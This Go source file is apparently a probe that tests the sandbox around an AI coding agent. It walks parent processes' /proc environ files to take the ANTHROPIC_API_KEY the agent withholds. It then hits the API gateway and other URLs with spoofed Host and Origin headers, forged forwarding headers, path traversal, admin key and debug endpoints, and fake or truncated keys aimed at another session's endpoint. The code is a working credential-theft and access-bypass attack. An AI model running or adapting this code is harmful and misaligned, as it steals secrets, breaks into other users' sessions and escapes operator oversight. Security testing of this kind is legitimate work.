package main

import (
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"time"
)

// network asks every server that it was told of, and its own gateway, in all ways but the right one.
func (t *thief) network() {
	client := &http.Client{Timeout: 3 * time.Second, Transport: &http.Transport{DisableKeepAlives: true}}
	own := token()
	t.report.Tried["token"]++
	if own != "" {
		t.report.Read["token"]++
	}
	for _, url := range append(t.task.URLs, os.Getenv("ANTHROPIC_BASE_URL")) {
		for _, path := range []string{
			"", "/", "/v1/sessions", "/v1/status", "/v1/models", "/v1/files", "/v1/organizations/api_keys", "/../token", "/metrics",
			"/debug/pprof/", "/debug/vars", "/openapi.json", "/v1/messages/batches",
		} {
			for _, header := range []map[string]string{
				{}, {"Authorization": "Bearer x"}, {"Authorization": "Bearer " + own}, {"X-Api-Key": own}, {"Authorization": "x"},
				{"Host": "evil.example"}, {"Host": "evil.example", "X-Api-Key": own}, {"Origin": "http://evil.example", "X-Api-Key": own},
				{"X-Forwarded-For": "127.0.0.1", "X-Forwarded-Host": "localhost", "Authorization": "Bearer "},
			} {
				t.request(client, http.MethodGet, url+path, header)
			}
		}
		// Another session's place at the gateway: the address is the same, and only a token that it has not opens it.
		for _, header := range []map[string]string{
			{}, {"X-Api-Key": "x"}, {"Authorization": "Bearer x"}, {"X-Api-Key": own[:max(len(own)-1, 0)]}, {"Host": "evil.example", "X-Api-Key": own},
		} {
			t.request(client, http.MethodPost, url+"/v1/messages", header)
		}
	}
}

// token is what opens the session's own place at the gateway. Claude Code has it, and keeps it from what it starts.
func token() string {
	for pid := os.Getpid(); pid > 1; {
		environ, _ := os.ReadFile(filepath.Join("/proc", strconv.Itoa(pid), "environ"))
		for _, each := range strings.Split(string(environ), "\x00") {
			if value, found := strings.CutPrefix(each, "ANTHROPIC_API_KEY="); found && value != "" {
				return value
			}
		}
		status, _ := os.ReadFile(filepath.Join("/proc", strconv.Itoa(pid), "status"))
		_, after, _ := strings.Cut(string(status), "PPid:\t")
		parent, _, _ := strings.Cut(after, "\n")
		var err error
		if pid, err = strconv.Atoi(parent); err != nil {
			return ""
		}
	}
	return ""
}

func (t *thief) request(client *http.Client, method, url string, header map[string]string) {
	request, err := http.NewRequest(method, url, strings.NewReader(`{"model":"claude-haiku-4-5","max_tokens":10,"messages":[{"role":"user","content":"hello"}]}`))
	if err != nil {
		return
	}
	for name, value := range header {
		request.Header.Set(name, value)
	}
	request.Host = header["Host"]
	response, err := client.Do(request)
	t.report.Tried["network"]++
	if err != nil {
		return
	}
	defer response.Body.Close()
	text, _ := io.ReadAll(io.LimitReader(response.Body, 1<<20))
	t.look("network", url, text)
	if header["Host"] != "" && response.StatusCode < 400 {
		t.found("rebinding", url, response.Status)
	}
	if response.StatusCode < 300 && strings.Contains(url, "/v1/") {
		t.found("answered", url, response.Status)
	}
}
